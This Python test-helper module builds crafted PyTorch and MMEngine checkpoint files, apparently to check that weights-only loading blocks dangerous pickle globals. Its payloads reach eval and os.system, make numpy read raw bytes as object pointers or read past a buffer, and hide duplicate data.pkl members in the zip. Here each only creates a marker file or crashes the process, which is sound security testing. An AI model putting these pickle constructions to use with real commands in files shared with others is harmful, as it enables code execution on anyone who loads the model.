"""Crafted checkpoints: pickles that reach code through globals that weights-only loading
must never allow. Their only effect, when a loader lets them run, is to create a marker file."""
import io
import zipfile
from pathlib import Path

import torch


def _global(module: str, name: str) -> bytes:
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def _str(text: str) -> bytes:
    data = text.encode()
    return b'X' + len(data).to_bytes(4, 'little') + data


def eval_through_getattr(marker: Path) -> bytes:
    """A protocol-2 pickle computing ``_rebuild_from_type_v2(getattr(getattr(getattr,
    '__self__'), 'eval'), Tensor, (CODE, ), {})``: with a general ``getattr`` allowed, it
    reaches the ``builtins`` module and runs ``eval(CODE)``, which touches ``marker``."""
    code = f"__import__('pathlib').Path({str(marker)!r}).touch()"
    getattr_ = _global('builtins', 'getattr')
    builtins_module = getattr_ + b'(' + getattr_ + _str('__self__') + b'tR'
    eval_ = getattr_ + b'(' + builtins_module + _str('eval') + b'tR'
    return (b'\x80\x02' + _global('torch._tensor', '_rebuild_from_type_v2') + b'('
            + eval_ + _global('torch', 'Tensor') + b'(' + _str(code) + b't' + b'}'
            + b'tR.')


def write_torch_zip(path: Path, pickle_bytes: bytes) -> Path:
    """A file in torch's zip checkpoint format whose ``data.pkl`` is ``pickle_bytes``."""
    buf = io.BytesIO()
    torch.save({'x': 1}, buf)
    buf.seek(0)
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as out:
        for info in src.infolist():
            data = pickle_bytes if info.filename.endswith('/data.pkl') else \
                src.read(info.filename)
            out.writestr(info.filename, data)
    return path


def crafted_checkpoint(path: Path, marker: Path) -> Path:
    return write_torch_zip(path, eval_through_getattr(marker))


# -- numpy objects over raw bytes -------------------------------------------------------------
def _int(value: int) -> bytes:
    return b'J' + value.to_bytes(4, 'little', signed=True)


def _bytes(data: bytes) -> bytes:
    """Bytes as protocol 2 writes them: ``_codecs.encode(text, 'latin1')``."""
    return _global('_codecs', 'encode') + b'(' + _str(data.decode('latin1')) + _str('latin1') \
        + b'tR'


def _dtype(spec: str) -> bytes:
    return _global('numpy', 'dtype') + b'(' + _str(spec) + b'\x89\x88tR'


def object_field_dtype() -> bytes:
    """``numpy.dtype('V8')`` whose pickled state gives it one object field at offset 0, with
    the flags of a plain dtype (so that numpy takes the array's raw bytes for its contents)."""
    fields = b'}' + _str('a') + b'(' + _dtype('O8') + _int(0) + b't' + b's'
    return (_dtype('V8') + b'(' + _int(3) + _str('|') + b'N' + b'(' + _str('a') + b't' + fields
            + _int(8) + _int(1) + _int(0) + b'tb')


def object_array_over_bytes(module: str = 'numpy._core.multiarray',
                            raw: bytes = b'\x41' * 8) -> bytes:
    """A protocol-2 pickle of ``{'a': array}``, the array rebuilt by numpy's ``_reconstruct``
    with :func:`object_field_dtype` over ``raw``: numpy reads those bytes as a pointer to a
    Python object, and touching the array (``x['a']``, ``copy.deepcopy``) crashes the process
    wherever numpy's own classes are allowed."""
    array = (_global(module, '_reconstruct') + b'(' + _global('numpy', 'ndarray') + b'('
             + _int(0) + b't' + _bytes(b'b') + b'tR')
    state = b'(' + _int(1) + b'(' + _int(1) + b't' + object_field_dtype() + b'\x89' \
        + _bytes(raw) + b't'
    return b'\x80\x02}' + _str('a') + array + state + b'bs.'


def object_scalar_over_bytes(module: str = 'numpy._core.multiarray') -> bytes:
    """``{'a': numpy scalar}`` of :func:`object_field_dtype` over 8 raw bytes."""
    scalar = (_global(module, 'scalar') + b'(' + object_field_dtype() + _bytes(b'\x41' * 8)
              + b'tR')
    return b'\x80\x02}' + _str('a') + scalar + b's.'


def array_from_buffer() -> bytes:
    """``{'a': numpy.ndarray((1000000,), 'f8', buffer=b'x' * 8)}``: an array constructor called
    with a buffer far smaller than the array reads past it."""
    call = (_global('numpy', 'ndarray') + b'(' + b'(' + _int(1000000) + b't' + _dtype('f8')
            + _bytes(b'x' * 8) + b'tR')
    return b'\x80\x02}' + _str('a') + call + b's.'


def in_message_hub(payload_dict_entry: bytes) -> bytes:
    """An MMEngine checkpoint (``meta``, ``state_dict``, ``message_hub``) whose
    ``message_hub['runtime_info']`` is the dict that ``payload_dict_entry`` (a pickle of a
    dict, as the functions above give) pickles: what ``--resume`` reads."""
    inner = payload_dict_entry[len(b'\x80\x02'):-1]  # the dict, without PROTO and STOP
    return (b'\x80\x02}' + _str('meta') + b'}' + b's' + _str('state_dict') + b'}' + b's'
            + _str('message_hub') + b'}' + _str('runtime_info') + inner + b's' + b's.')


# -- zip checkpoints with two members of one name ---------------------------------------------
def system_call(marker: Path) -> bytes:
    """A protocol-2 pickle computing ``os.system('touch MARKER')``: unpickled in full, it
    creates ``marker``."""
    return (b'\x80\x02' + _global('os', 'system') + b'(' + _str(f'touch {str(marker)!r}')
            + b'tR.')


def with_repeated_member(path: Path, state: dict, name: str, data: bytes,
                         first: bool = False) -> Path:
    """``torch.save(state)`` to ``path`` with one more zip member called ``name`` (given as
    ``'data.pkl'``, it is prefixed with the archive's folder, as torch's own members are)
    holding ``data``: after torch's members, or before them when ``first``. Python's zipfile
    writes a repeated name with a warning."""
    import warnings
    buf = io.BytesIO()
    torch.save(state, buf)
    buf.seek(0)
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as out:
        extra = f'{src.infolist()[0].filename.split("/")[0]}/{name}'
        members = [(i.filename, src.read(i.filename)) for i in src.infolist()]
        members = [(extra, data)] + members if first else members + [(extra, data)]
        with warnings.catch_warnings():
            warnings.simplefilter('ignore', UserWarning)  # 'Duplicate name: ...'
            for member, content in members:
                out.writestr(member, content)
    return path
